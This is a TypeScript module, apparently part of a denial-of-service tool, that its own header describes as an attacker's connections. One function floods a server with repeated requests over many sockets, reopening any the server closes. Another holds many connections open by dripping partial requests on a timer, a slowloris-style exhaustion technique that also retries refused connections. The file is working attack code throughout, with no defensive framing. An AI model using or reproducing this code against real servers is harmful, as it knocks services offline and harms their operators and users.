/** Connections of an attacker: bytes go in, statuses come out. */
import { connect, type Socket } from "node:net";
import type { Field } from "./attack.ts";

/** `HTTP/1.1 200`. */
const STATUS_BYTES = 12;

export function dial({ at: { host, port, from } }: Field, opened: (socket: Socket) => void): Socket {
  const socket = connect({ host, port, ...(from && { localAddress: from }) }, () => opened(socket));
  socket.setNoDelay(true);
  socket.on("error", () => {});
  return socket;
}

/** Calls `answered` with the status of each answer on a connection. */
export function readStatuses(socket: Socket, answered: (status: number) => void): void {
  let rest = "";
  socket.on("data", (bytes) => {
    rest += bytes.toString("latin1");
    let taken = 0;
    for (const match of rest.matchAll(/HTTP\/1\.1 (\d{3})/g)) {
      taken = match.index + STATUS_BYTES;
      answered(Number(match[1]));
    }
    rest = rest.slice(Math.max(taken, rest.length - STATUS_BYTES + 1));
  });
}

/**
 * Asks again and again on `connections` connections, as quickly as it is answered. One that the server closes is opened again.
 */
export async function keepAsking(field: Field, connections: number, next: () => string): Promise<void> {
  const asker = () => {
    if (field.over) return;
    let answered = false;
    const ask = () => {
      answered = false;
      socket.write(next());
    };
    const socket = dial(field, ask);
    readStatuses(socket, (status) => {
      field.count(String(status));
      answered = true;
      if (!field.over) ask();
    });
    socket.on("close", () => {
      if (!answered && !field.over) field.count("closed");
      setImmediate(asker);
    });
    void field.end.then(() => socket.destroy());
  };
  for (let i = 0; i < connections; i++) asker();
  await field.end;
}

/** Holds `connections` connections that begin with `head` and go on with `drip`, a piece every `everyMs`. */
export async function drip(field: Field, connections: number, head: string, piece: string, everyMs: number) {
  const holder = () => {
    if (field.over) return;
    const socket = dial(field, () => {
      field.count("opened");
      socket.write(head);
    });
    // Time: the pace of the drops.
    const timer = piece === "" ? undefined : setInterval(() => socket.write(piece), everyMs);
    readStatuses(socket, (status) => field.count(String(status)));
    socket.on("close", () => {
      clearInterval(timer);
      if (field.over) return;
      field.count("closed");
      // Time: a refused connection is tried again.
      setTimeout(holder, everyMs);
    });
    void field.end.then(() => socket.destroy());
  };
  for (let i = 0; i < connections; i++) holder();
  await field.end;
}
